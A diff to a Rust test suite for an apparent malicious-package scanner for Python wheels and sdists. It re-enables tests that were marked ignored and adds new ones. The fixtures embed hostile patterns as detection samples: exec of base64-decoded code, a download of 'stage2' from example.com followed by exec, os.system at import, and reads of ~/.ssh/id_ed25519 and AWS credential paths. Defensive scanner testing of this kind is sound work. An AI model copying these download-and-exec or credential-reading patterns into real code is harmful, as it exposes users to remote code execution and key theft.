@@ -168,20 +168,27 @@ fn a_top_level_sitecustomize_runs_at_every_start_in_every_scope() {
 }
 
 #[test]
-#[ignore = "role_of makes any file named sitecustomize.py a startup hook, wherever it is; acme/sitecustomize.py is flagged at lines 2, 6 and 10 although Python never runs it at start (install-hook/sitecustomize rightly ignores it)"]
 fn a_sitecustomize_module_inside_a_package_is_an_ordinary_module() {
     let r = wheel(&[("acme/__init__.py", ""), ("acme/sitecustomize.py", EVERY_SCOPE)]);
     assert_eq!(hits(&r, "access/process-on-install", "acme/sitecustomize.py"), [(2, Medium)]);
 }
 
 #[test]
-#[ignore = "`demo`, `example`, `bench`… are AUX_DIRS at any depth, so a project's own import package named demo counts as documentation: exec-decoded at import is medium and os.system at import gives no finding"]
 fn a_project_whose_package_is_named_demo_is_not_documentation() {
     let metadata = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: Demo tools\nAuthor: Ann\n";
     let init = "import base64, os\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('id')\n";
     let r = wheel_named("demo-1.0", metadata, &[("demo/__init__.py", init)]);
     assert_eq!(hits(&r, "payload/exec-decoded", "demo/__init__.py"), [(2, Critical)]);
     assert_eq!(hits(&r, "access/process-on-install", "demo/__init__.py"), [(3, Medium)]);
+}
+
+#[test]
+fn a_docs_folder_inside_a_package_ships_with_it_and_one_at_the_top_does_not() {
+    let inside = wheel(&[("acme/__init__.py", ""), ("acme/docs/__init__.py", ""), ("acme/docs/build.py", "import os\nos.system('id')\n")]);
+    assert_eq!(hits(&inside, "access/process-on-install", "acme/docs/build.py"), [(2, Medium)]);
+    let top = sdist(&[("acme/__init__.py", ""), ("docs/conf.py", "import os\nos.system('id')\nexec(source)\n")]);
+    none(&top, "access/process-on-install");
+    assert_eq!(hits(&top, "payload/exec-dynamic", "acme-1.0/docs/conf.py"), [(3, Info)]);
 }
 
 #[test]
@@ -315,7 +322,6 @@ def download_dataset(url, target):
 }
 
 #[test]
-#[ignore = "the local-file exemption of exec-dynamic covers any path: exec(open('/tmp/x.py').read()) of a file urlretrieve just wrote gives no finding at all"]
 fn exec_of_a_file_just_downloaded_is_download_exec() {
     let r = module(
         r#"import urllib.request
@@ -325,6 +331,27 @@ def update():
 "#,
     );
     assert_eq!(hits(&r, "payload/download-exec", MOD), [(4, Critical)]);
+}
+
+#[test]
+fn exec_of_fetched_bytes_saved_to_a_file_is_download_exec() {
+    let r = module(
+        r#"import os, requests, tempfile
+def update():
+    path = os.path.join(tempfile.gettempdir(), "acme_stage2.py")
+    with open(path, "wb") as f:
+        f.write(requests.get("https://example.com/stage2").content)
+    exec(open(path).read())
+"#,
+    );
+    assert_eq!(hits(&r, "payload/download-exec", MOD), [(6, Critical)]);
+}
+
+#[test]
+fn exec_of_a_file_outside_the_project_is_not_a_version_read() {
+    let r = module("import os\ndef load_plugin():\n    exec(open('/tmp/acme_plugin.py').read())\n    exec(open(os.path.expanduser('~/.acme/rc.py')).read())\n");
+    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(3, Low), (4, Low)]);
+    none(&r, "payload/download-exec");
 }
 
 // ---------------------------------------------------------------- payload/exec-hidden
@@ -366,7 +393,6 @@ def calc(expr):
 }
 
 #[test]
-#[ignore = "getattr(builtins, type_name)(value) resolves to the callee `__builtins__.?`, which payload::run treats as exec: critical exec-hidden at line 3"]
 fn calling_a_builtin_looked_up_by_a_plain_variable_is_not_exec_hidden() {
     let r = module("import builtins\ndef convert(type_name, value):\n    return getattr(builtins, type_name)(value)\n");
     none(&r, "payload/exec-hidden");
@@ -439,7 +465,6 @@ def daemonize():
 }
 
 #[test]
-#[ignore = "reverse_shell only needs os.dup2 and a shell anywhere in the file: a daemon that redirects to /dev/null plus an unrelated bash runner is a critical reverse shell at line 7"]
 fn dup2_to_devnull_and_an_unrelated_shell_script_runner_are_not_a_reverse_shell() {
     let r = module(
         r#"import os, subprocess
@@ -485,14 +510,12 @@ def have_curl():
 }
 
 #[test]
-#[ignore = "`curl ` or `wget ` plus `http` is enough: curl -o data.json https://… (downloads, runs nothing) is a critical shell-download at line 3"]
 fn curl_saving_a_data_file_is_not_shell_download() {
     let r = module("import subprocess\ndef fetch():\n    subprocess.check_call(['curl', '-sSL', '-o', 'data.json', 'https://example.com/data.json'])\n");
     none(&r, "payload/shell-download");
 }
 
 #[test]
-#[ignore = "the `| sh` test is a substring test: `tar cf - acme | sha256sum` is a critical shell-download at line 3"]
 fn piping_to_sha256sum_is_not_piping_to_sh() {
     let r = module("import subprocess\ndef digest():\n    return subprocess.run('tar cf - acme | sha256sum', shell=True)\n");
     none(&r, "payload/shell-download");
@@ -532,7 +555,6 @@ setup(cmdclass={"install": PostInstall})
 }
 
 #[test]
-#[ignore = "SUSPICIOUS_COMMAND holds `nc `, a substring of `sync `: git submodule sync --recursive in setup.py is high, not low"]
 fn git_submodule_sync_in_setup_py_is_a_build_step() {
     let r = setup_py("import subprocess\nsubprocess.check_call(['git', 'submodule', 'sync', '--recursive'])\n");
     assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Low)]);
@@ -642,13 +664,12 @@ AWS = os.path.expanduser("~/.aws/credentials")
 }
 
 #[test]
-fn ssh_known_hosts_and_cloud_config_are_not_credentials() {
-    let r = module("import os\nKNOWN = os.path.expanduser('~/.ssh/known_hosts')\nCONFIG = os.path.expanduser('~/.aws/config')\n");
+fn ssh_known_hosts_public_keys_and_cloud_config_are_not_credentials() {
+    let r = module("import os\nKNOWN = os.path.expanduser('~/.ssh/known_hosts')\nCONFIG = os.path.expanduser('~/.aws/config')\nPUB = os.path.expanduser('~/.ssh/id_ed25519.pub')\n");
     none(&r, "access/credentials");
 }
 
 #[test]
-#[ignore = "CREDENTIAL_FILES only knows id_rsa: ~/.ssh/id_ed25519 (the default key type of current OpenSSH) gives no finding"]
 fn an_ed25519_ssh_private_key_is_a_credential_file() {
     let r = module("import os\nKEY = os.path.expanduser('~/.ssh/id_ed25519')\n");
     assert_eq!(hits(&r, "access/credentials", MOD), [(2, Medium)]);
@@ -692,14 +713,12 @@ fn a_module_whose_name_only_starts_like_a_capture_library_is_not_surveillance() 
 }
 
 #[test]
-#[ignore = "relative imports lose their dots: `from .keyboard import KeyMap` (the package's own module) is read as the keyboard library, medium at line 1"]
 fn a_relative_import_of_the_package_own_keyboard_module_is_not_surveillance() {
     let r = module("from .keyboard import KeyMap\nimport os\nHOME = os.environ.get('HOME')\n");
     none(&r, "access/surveillance");
 }
 
 #[test]
-#[ignore = "the prefilter needs the text `import keyboard`; `import sys, keyboard` skips the file and loses the finding"]
 fn keyboard_imported_in_a_list_of_modules_is_surveillance() {
     let r = module("import sys, keyboard\nkeyboard.on_press(print)\n");
     assert_eq!(hits(&r, "access/surveillance", MOD), [(1, Medium)]);
@@ -726,7 +745,6 @@ fn a_jwt_and_a_chat_id_are_not_bot_tokens() {
 }
 
 #[test]
-#[ignore = "the prefilter has a token for Telegram tokens (`:aa`) but none for Discord ones: a config module holding only a Discord token is never parsed"]
 fn a_discord_token_alone_in_a_config_module_is_found() {
     let r = module(&format!("BOT_TOKEN = \"{DISCORD_TOKEN}\"\n"));
     assert_eq!(hits(&r, "access/hardcoded-bot-token", MOD), [(1, High)]);
@@ -769,7 +787,6 @@ fn long_prose_and_long_repetitive_strings_are_not_encoded_blobs() {
 }
 
 #[test]
-#[ignore = "entropy must exceed 4.5 bits per byte, which hex (16 symbols, at most 4 bits) never does: a 3000-character random hex payload is not flagged"]
 fn a_long_random_hex_string_is_an_encoded_blob() {
     let hex: String = noise(1500).iter().map(|b| format!("{b:02x}")).collect();
     let r = module(&format!("import base64\nPAYLOAD = \"{hex}\"\n"));
@@ -777,7 +794,6 @@ fn a_long_random_hex_string_is_an_encoded_blob() {
 }
 
 #[test]
-#[ignore = "the prefilter has no trigger for a blob wrapped in short lines: a module holding only a multi-line base64 string is never parsed"]
 fn a_base64_blob_wrapped_in_short_lines_is_an_encoded_blob() {
     let blob = b64(&noise(1500));
     let wrapped: Vec<&str> = blob.as_bytes().chunks(76).map(|c| std::str::from_utf8(c).unwrap()).collect();
@@ -806,13 +822,20 @@ fn pyarmor_output_is_packed_code() {
 }
 
 #[test]
+fn older_pyarmor_output_and_an_obfuscator_marker_are_packed_code() {
+    let r = module("from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n");
+    assert_eq!(hits(&r, "hiding/packer", MOD), [(1, High)]);
+    let r = module("__obfuscator__ = 'Hyperion'\n__authors__ = ('x',)\n");
+    assert_eq!(hits(&r, "hiding/packer", MOD), [(1, High)]);
+}
+
+#[test]
 fn a_build_helper_running_the_pyarmor_cli_is_not_packed() {
     let r = module("import subprocess\ndef obfuscate(src):\n    subprocess.run(['pyarmor', 'gen', '-O', 'dist', src], check=True)\n");
     none(&r, "hiding/packer");
 }
 
 #[test]
-#[ignore = "hiding/packer searches the raw text: a docstring that mentions pyarmor_runtime is high at line 1"]
 fn a_docstring_mentioning_pyarmor_is_not_packed_code() {
     let r = module(
         "\"\"\"Build helpers. We do not ship pyarmor_runtime: the code stays readable.\"\"\"\nimport subprocess\ndef obfuscate(src):\n    subprocess.run(['pyarmor', 'gen', src])\n",
@@ -889,7 +912,6 @@ fn common_build_backends_are_not_flagged() {
 }
 
 #[test]
-#[ignore = "the value is not parsed as TOML: `build-backend = \"setuptools.build_meta\"  # default` is an uncommon backend, low at line 3"]
 fn a_common_backend_followed_by_a_toml_comment_is_not_flagged() {
     let r = sdist(&[("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"setuptools.build_meta\"  # the default\n")]);
     none(&r, "install-hook/build-backend");
@@ -949,7 +971,6 @@ fn a_generated_version_module_only_in_the_wheel_is_expected() {
 }
 
 #[test]
-#[ignore = "is_generated exempts every name ending in `version.py`: a wheel-only acme/conversion.py is not reported"]
 fn a_module_whose_name_merely_ends_in_version_is_not_generated() {
     let s = sdist(&[("acme/__init__.py", "")]);
     let w = wheel(&[("acme/__init__.py", ""), ("acme/conversion.py", "import os\n")]);
